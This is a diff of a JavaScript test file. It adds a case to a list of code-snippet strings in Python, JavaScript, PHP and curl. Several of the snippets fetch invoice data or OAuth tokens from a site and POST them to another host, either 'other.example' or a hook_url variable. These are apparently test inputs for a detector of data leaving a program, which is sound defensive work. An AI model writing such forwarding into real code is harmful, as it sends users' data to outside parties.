@@ -179,6 +179,7 @@ describe('A request of a program', () => {
     for (const text of [
       `r = requests.get("${site}/api/invoices?status=a")\nrequests.request("POST", "https://other.example/x", json=r.json())`,
       `const r = await fetch('${site}/api/invoices?status=a', { headers });\nawait fetch('https://other.example/x', { method: 'POST' });`,
+      `r = requests.get("${site}/api/invoices?status=a")\nrequests.request("POST", hook_url, json=r.json())`,
       `$r = $client->get('${site}/api/invoices?status=a');\n$client->request('POST', 'https://other.example');`,
       `curl -H "A: $(curl -d 'a=b' ${site}/oauth2/token | jq -r .t)" '${site}/api/invoices?status=a' | cut -d',' -f1`,
       `curl -d 'a=b' ${site}/oauth2/token && curl '${site}/api/invoices?status=a' | grep -F x`,
